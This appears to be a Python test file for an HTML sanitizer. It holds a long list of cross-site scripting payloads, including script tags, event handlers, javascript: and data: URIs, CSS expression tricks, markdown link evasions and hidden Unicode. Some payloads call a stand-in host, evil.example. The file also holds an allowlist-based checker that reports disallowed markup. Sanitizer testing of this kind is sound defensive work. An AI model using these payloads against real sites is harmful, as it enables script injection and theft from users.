"""Texts that attack a page, and a judge that reads HTML as a browser's parser would and lists what is not allowed."""

from __future__ import annotations

import re
from html.parser import HTMLParser

SET_FLAG = "window.ran=1;fetch('https://evil.example/x')"

PAYLOADS = (
    f"<script>{SET_FLAG}</script>",
    f"<SCRIPT>{SET_FLAG}</SCRIPT >",
    '<script src="https://evil.example/x.js"></script>',
    f'<img src=x onerror="{SET_FLAG}">',
    f"<img/src/onerror={SET_FLAG}>",
    f'<svg onload="{SET_FLAG}">',
    f"<svg><script>{SET_FLAG}</script></svg>",
    '<svg><use href="https://evil.example/s.svg#x"/></svg>',
    f'<svg><animate onbegin="{SET_FLAG}" attributeName=x dur=1s>',
    f'<math><mtext></mtext><mglyph><style><img src=x onerror="{SET_FLAG}"></style></mglyph></math>',
    '<math href="javascript:alert(1)">x</math>',
    f'<body onload="{SET_FLAG}">',
    f'<details open ontoggle="{SET_FLAG}">x</details>',
    f'<input autofocus onfocus="{SET_FLAG}">',
    f'<video><source onerror="{SET_FLAG}"></video>',
    '<iframe src="javascript:window.ran=1"></iframe>',
    f'<iframe srcdoc="<script>parent.{SET_FLAG}</script>"></iframe>',
    '<object data="https://evil.example/o"></object>',
    '<embed src="https://evil.example/e">',
    '<link rel=stylesheet href="https://evil.example/s.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>go</button></form>',
    "<style>body{background:url(https://evil.example/b)}</style>",
    '<div style="background:url(https://evil.example/d)">x</div>',
    '<div style="width:expression(window.ran=1)">x</div>',
    "<!-- <script>window.ran=1</script>",
    "<![CDATA[<script>window.ran=1</script>]]>",
    "<?php <script>window.ran=1</script> ?>",
    "</pre></code></div></td></table><script>window.ran=1</script>",
    '"><script>window.ran=1</script>',
    "'><img src=x onerror=window.ran=1>",
    '" onmouseover="window.ran=1" x="',
    "<a href='javascript:window.ran=1'>x</a>",
    "[x](javascript:window.ran=1)",
    "[x](JaVaScRiPt:window.ran=1)",
    "[x](java\tscript:window.ran=1)",
    "[x](<java\nscript:window.ran=1>)",
    "[x](\x01javascript:window.ran=1)",
    "[x](&#106;avascript:window.ran=1)",
    "[x](javascript&colon;window.ran=1)",
    "[x](&#x6A&#x61&#x76&#x61script:window.ran=1)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](blob:https://evil.example/x)",
    "<javascript:window.ran=1>",
    "<data:text/html,x>",
    "[x]\n\n[x]: javascript:window.ran=1",
    '[x](https://a.b "\\" onmouseover=window.ran=1 x=\\"")',
    '[x](https://a.b/"onmouseover=window.ran=1)',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:window.ran=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg==)",
    '![" onerror="window.ran=1](https://evil.example/p)',
    "[![x](https://evil.example/pixel.png)](javascript:window.ran=1)",
    "```html\n<script>window.ran=1</script>\n```",
    '```"><script>window.ran=1</script>\nx\n```',
    "```python\n'</code></pre><script>window.ran=1</script>'",
    "`<script>window.ran=1</script>`",
    "| <script>window.ran=1</script> |\n|---|\n| <img src=x onerror=window.ran=1> |",
    "<!--\n-->\n<script\n>window.ran=1</script\n>",
    "$\\href{javascript:window.ran=1}{x}$",
    "$$\\style{background:url(https://evil.example/m)}{x}$$",
    "\\(\\require{html}\\) $<script>window.ran=1</script>$",
    "\u202egnp.exe\u202c \u2066hidden\u2069 a\u200bb\ufeff",
    "&#x202E;desrever&#x2066;",
    "\x1b[2J\x1b]0;title\x07\x00\x08",
    "tag\U000e0041\U000e0042 characters",
    "half a \ud800 surrogate",
    ">" * 3000 + "deep",
    "- " * 2000 + "deep",
    "[" * 3000 + "x" + "](https://a.b)" * 3000,
    "<" * 5000,
    "*" * 5000 + "x",
)

_TAGS = {"div", "span", "p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li"} | {
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
}
ALLOWED: dict[str, set[str]] = {name: {"style"} for name in _TAGS}
ALLOWED["ol"] |= {"start"}
ALLOWED["a"] = {"href", "title", "target", "rel", "style", "download"}
ALLOWED["img"] = {"src", "alt", "style"}
ALLOWED["audio"] = {"controls", "preload", "src", "title", "style"}
ALLOWED["video"] = ALLOWED["audio"] | {"poster"}
ALLOWED["details"] = ALLOWED["summary"] = {"style"}

_SOURCE = re.compile(r"data:(?:image/(?:webp|png|jpeg)|audio/[a-z0-9]+|video/[a-z0-9]+);base64,[A-Za-z0-9+/=]*\Z")
_RELATIVE = re.compile(r"[A-Za-z0-9_.%~-]+(?:/[A-Za-z0-9_.%~-]+)*\Z")
_BAD_STYLE = re.compile(r"url|expression|import|position|behavio|\\|<|javascript", re.IGNORECASE)
_HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]")


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.faults.append(f"tag {tag}")
            return
        for name, given in attrs:
            value = given or ""
            if name not in ALLOWED[tag]:
                self.faults.append(f"attribute {tag}.{name}")
            if name == "src" and not (_SOURCE.match(value) or _RELATIVE.match(value)):
                self.faults.append(f"src {value[:60]}")
            if name == "poster" and not _SOURCE.match(value):
                self.faults.append(f"poster {value[:60]}")
            if name == "href" and not (re.match(r"https?://|mailto:", value) or _RELATIVE.match(value)):
                self.faults.append(f"href {value[:60]}")
            if name == "style" and _BAD_STYLE.search(value):
                self.faults.append(f"style {value[:60]}")
            if _HIDDEN.search(value):
                self.faults.append(f"hidden character in {tag}.{name}")
        if tag == "a" and ("target", "_blank") not in attrs:
            self.faults.append("a link in this tab")

    def handle_data(self, data: str) -> None:
        if found := _HIDDEN.search(data):
            self.faults.append(f"hidden character {found[0]!r}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("declaration")

    handle_pi = unknown_decl = handle_decl


def faults(html: str) -> list[str]:
    """List everything in a piece of HTML that is not on the list of what may be there."""
    html.encode("utf-8")
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.faults
